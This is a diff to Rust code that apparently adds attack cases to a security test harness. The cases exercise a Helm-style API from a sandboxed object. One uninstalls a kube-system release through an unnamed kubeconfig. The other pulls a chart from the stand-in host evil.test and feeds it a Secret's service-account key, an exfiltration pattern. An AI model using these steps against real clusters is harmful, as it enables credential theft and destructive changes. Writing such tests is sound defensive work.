@@ -184,6 +184,56 @@ fn attack(ctx: &CallContext, a: &Value) -> Value {
                 Err(e) => err(e),
             }
         }
+        "helmStart" => {
+            // A step of the attacker's choosing, through a kubeconfig the object does not name.
+            let release = helm::ReleaseRef {
+                kubeconfig: key_ref(&a["kubeconfig"]),
+                name: "loot".into(),
+                namespace: "kube-system".into(),
+            };
+            let step = helm::Step::Uninstall(helm::UninstallRequest {
+                options: helm::ActionOptions {
+                    timeout_seconds: 60,
+                    wait: helm::WaitStrategy::Hooks,
+                    wait_for_jobs: false,
+                    disable_hooks: true,
+                },
+                keep_history: false,
+                propagation: helm::DeletionPropagation::Background,
+            });
+            match helm::start(ctx, &release, &step) {
+                Ok(r) => json!({ "ok": r.id }),
+                Err(e) => err(e),
+            }
+        }
+        "helmObserve" => {
+            // Values from a Secret the object does not name, through a kubeconfig it does: the Secret's data
+            // would go to a cluster of the object's choosing.
+            let release = helm::ReleaseRef {
+                kubeconfig: key_ref(&a["kubeconfig"]),
+                name: "loot".into(),
+                namespace: "apps".into(),
+            };
+            let source = helm::ReleaseSource {
+                chart: helm::ChartPull {
+                    location: helm::ChartLocation::Oci("oci://evil.test/loot".into()),
+                    version: "1.0.0".into(),
+                    credentials: None,
+                    tls: None,
+                },
+                values: vec![helm::ValuesPart::Referenced(helm::ValuesRef {
+                    kind: helm::ValuesKind::Secret,
+                    name: text(a, "valuesSecret"),
+                    key: "serviceAccountKey".into(),
+                    target_path: Some("loot".into()),
+                    optional: false,
+                })],
+            };
+            match helm::observe(ctx, &release, Some(&source)) {
+                Ok(o) => json!({ "ok": o.wanted }),
+                Err(e) => err(e),
+            }
+        }
         "helmStatus" => {
             match helm::status(ctx, &key_ref(&a["kubeconfig"]), &text(a, "release"), "kube-system") {
                 Ok(r) => json!({ "ok": r.release.map(|s| s.current.status) }),
